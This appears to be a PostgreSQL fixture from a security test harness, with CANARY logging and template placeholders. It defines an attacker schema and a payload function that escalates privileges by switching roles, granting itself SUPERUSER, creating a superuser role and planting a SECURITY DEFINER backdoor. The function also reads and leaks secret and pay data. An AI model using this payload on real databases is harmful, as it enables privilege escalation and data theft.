-- The attacker's own things. What runs anywhere says so in the server's log, which no rollback takes back.
GRANT USAGE ON SCHEMA evil TO PUBLIC;
GRANT CREATE ON SCHEMA evil TO {service};
CREATE TABLE evil.log (what text, who name, session name, loot text);
GRANT ALL ON evil.log TO PUBLIC;
CREATE FUNCTION evil.payload(what text) RETURNS text LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
    -- whatever the path of the session is
    step pg_catalog.text;
    got pg_catalog.text := '';
    loot pg_catalog.text := '';
    more pg_catalog.text;
BEGIN
    RAISE LOG 'CANARY|{n}|%|%|%|', what, current_user, session_user;
    FOREACH step IN ARRAY ARRAY['RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET ROLE "{service}"', 'SET ROLE team', 'SET ROLE postgres',
                                'SET SESSION AUTHORIZATION postgres'] LOOP
        BEGIN
            EXIT WHEN current_user <> 'mallory';
            EXECUTE step;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    IF current_user <> 'mallory' THEN
        RAISE LOG 'CANARY|{n}|% (%)|%|%|', what, step, current_user, session_user;
        FOREACH step IN ARRAY ARRAY[
            'GRANT SELECT ON app.secret TO mallory',
            'GRANT "{service}" TO mallory',
            'ALTER ROLE mallory SUPERUSER',
            'CREATE ROLE mallory_pet SUPERUSER',
            'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO mallory',
            'CREATE FUNCTION evil.backdoor() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS ''SELECT word FROM app.secret'''
        ] LOOP
            BEGIN
                EXECUTE step;
                got := got || step || '; ';
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
        END LOOP;
    END IF;
    FOREACH step IN ARRAY ARRAY['SELECT left(string_agg(word, '',''), 200) FROM app.secret', 'SELECT left(string_agg(pay, '',''), 200) FROM app.people'] LOOP
        BEGIN
            EXECUTE step INTO more;
            loot := loot || coalesce(more, '');
            got := got || 'read; ';
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    BEGIN
        INSERT INTO evil.log VALUES (what, current_user, session_user, loot);
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    IF got <> '' THEN
        RAISE LOG 'CANARY|{n}|%|%|%|%', what, current_user, session_user, got;
        PERFORM pg_notify('loot', loot);
    END IF;
    RETURN current_user || ' ' || loot;
END
$f$;
